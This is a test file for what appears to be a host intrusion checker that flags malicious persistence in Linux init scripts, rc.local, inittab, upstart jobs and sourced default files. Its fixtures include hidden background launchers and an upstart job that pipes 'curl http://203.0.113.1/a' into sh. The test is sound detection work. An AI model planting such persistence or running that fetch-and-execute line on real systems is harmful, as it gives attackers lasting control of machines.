import { tellsOf } from '../../../test/plant-rows.ts';
import { init } from './check.ts';

const evil = '#!/bin/sh\n### BEGIN INIT INFO\n### END INIT INFO\ncase "$1" in\n  start) nohup /var/tmp/.d/sd >/dev/null 2>&1 & ;;\nesac\n';

tellsOf(init, {
  rows: {
    'a script of init.d': { files: { '/etc/init.d/sd': { text: evil, mode: 0o755 } }, finds: ['intrusion high /etc/init.d/sd'] },
    'rc.local': { files: { '/etc/rc.local': { text: '#!/bin/sh -e\nA=/dev/shm\n$A/x &\nexit 0\n', mode: 0o755 } }, finds: ['intrusion high /etc/rc.local'] },
    'a script in a runlevel': { files: { '/etc/rc2.d/S99x': { text: evil, mode: 0o755 } }, finds: ['intrusion high /etc/rc2.d/S99x'] },
    'a link of a runlevel to elsewhere': { files: { '/etc/rc3.d/S98y': '->/opt/y.sh', '/opt/y.sh': { text: '#!/bin/sh\ntrue\n', mode: 0o755 } }, finds: ['notice low /etc/rc3.d/S98y'] },
    'a process of inittab': { files: { '/etc/inittab': 'id:3:initdefault:\nx1:2345:respawn:/tmp/keep\n' }, finds: ['intrusion high /etc/inittab'] },
    'a job of upstart': { files: { '/etc/init/x.conf': 'start on runlevel [2345]\nscript\n  curl http://203.0.113.1/a | sh\nend script\n' }, finds: ['intrusion high /etc/init/x.conf'] },
    'settings that a start script sources': { files: { '/etc/default/ssh': 'SSHD_OPTS=\n(/tmp/.o >/dev/null 2>&1 &)\n' }, finds: ['intrusion high /etc/default/ssh'] },
    'a script that anybody may write': { files: { '/etc/init.d/open': { text: '#!/bin/sh\n', mode: 0o777 } }, finds: ['weakness high /etc/init.d/open'] },
  },
  ordinary: {
    '/etc/init.d/nginx': { text: '#!/bin/bash\nNGINX=/usr/local/nginx/sbin/nginx\ncase "$1" in\n start) $NGINX -c /usr/local/nginx/conf/nginx.conf ;;\n stop) kill -QUIT `cat /usr/local/nginx/logs/nginx.pid` ;;\nesac\n', mode: 0o755 }, '/usr/local/nginx/sbin/nginx': { text: 'ELF', mode: 0o755 },
    '/etc/init.d/cron': { text: evil, mode: 0o755, package: 'cron', config: true }, '/etc/rc2.d/S01cron': '->/etc/init.d/cron',
    '/etc/rc.local': { text: '#!/bin/sh -e\niptables-restore < /etc/iptables.rules\n/opt/app/start.sh\nsysctl -w net.core.somaxconn=4096\nexit 0\n', mode: 0o755 }, '/opt/app/start.sh': { text: '#!/bin/sh\ncd /opt/app && nohup java -jar app.jar >/var/log/app.log 2>&1 &\n', mode: 0o755 },
    '/etc/default/docker': 'DOCKER_OPTS="--dns 192.0.2.53"\nexport http_proxy="http://192.0.2.3:3128/"\n',
  },
  reads: '/etc/rc.local',
});
